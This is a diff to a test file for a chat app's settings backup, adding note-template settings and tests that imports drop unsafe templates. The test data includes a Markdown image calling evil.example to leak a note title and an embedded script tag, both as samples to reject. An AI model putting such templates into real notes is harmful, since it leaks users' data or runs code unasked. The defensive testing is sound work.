@@ -4,6 +4,7 @@ import { describe, expect, it } from 'vitest';
 import { BUILT_IN_QUESTIONS } from '#lib/prompts/built-in-questions.ts';
 import { INITIAL_APPEARANCE } from '#lib/protocol/appearance.ts';
 import type { Retention } from '#lib/protocol/chat-data.ts';
+import { INITIAL_NOTES } from '#lib/protocol/note-settings.ts';
 import type { Provider, ServerProvider } from '#lib/protocol/provider.ts';
 import type { SavedQuestion } from '#lib/protocol/saved-question.ts';
 import type { SettingsState } from '#lib/protocol/settings-frames.ts';
@@ -57,6 +58,7 @@ function createSettings(state: Partial<SettingsState> = {}): FakeSettings {
       spentToday: 0,
       appearance: INITIAL_APPEARANCE,
       asksForQuotes: true,
+      notes: INITIAL_NOTES,
       listedModels: {},
       ...state,
     },
@@ -92,6 +94,10 @@ function createSettings(state: Partial<SettingsState> = {}): FakeSettings {
       target.state = { ...target.state, asksForQuotes };
       return Promise.resolve();
     },
+    saveNotes(notes) {
+      target.state = { ...target.state, notes };
+      return Promise.resolve();
+    },
     updateSavedQuestions(change) {
       target.state = { ...target.state, savedQuestions: [...change(target.state.savedQuestions)] };
       return Promise.resolve();
@@ -112,6 +118,7 @@ const FULL: Partial<SettingsState> = {
   ownCaps: { chat: 0.5, day: null },
   appearance: { theme: 'dark', textSize: 130 },
   asksForQuotes: false,
+  notes: { template: '# {{title}}\n{{#turns}}\n{{answer}}\n{{/turns}}', vault: 'Reading' },
 };
 
 describe('a backup', () => {
@@ -134,6 +141,23 @@ describe('a backup', () => {
     expect(report).toMatchObject({ chats: 1, settings: { providers: 2, savedQuestions: 1, unreadable: 0 } });
     expect(after.state).toEqual(before.state);
     expect(after.retention).toBe(30);
+  });
+
+  it.each([
+    ['that loads a picture', '![](https://evil.example/?{{title}})\n{{#turns}}\n{{answer}}\n{{/turns}}'],
+    ['that runs a script', '<%* run() %>\n{{#turns}}\n{{answer}}\n{{/turns}}'],
+    ['that cannot be used', '{{answer}}'],
+  ])('brings no template of notes %s', async (_what, template) => {
+    const target = createSettings();
+    await addSettings({ notes: { template, vault: 'Mine' } }, target);
+    expect(target.state.notes).toEqual({ template: '', vault: 'Mine' });
+  });
+
+  it('changes no template of notes that the user has written', async () => {
+    const notes = { template: '{{#turns}}\n{{/turns}}', vault: '' };
+    const target = createSettings({ notes });
+    await addSettings({ notes: { template: '# {{title}}\n{{#turns}}\n{{/turns}}', vault: 'V' } }, target);
+    expect(target.state.notes).toEqual({ ...notes, vault: 'V' });
   });
 
   it('has no header of any provider, and none that an organization has set up', () => {
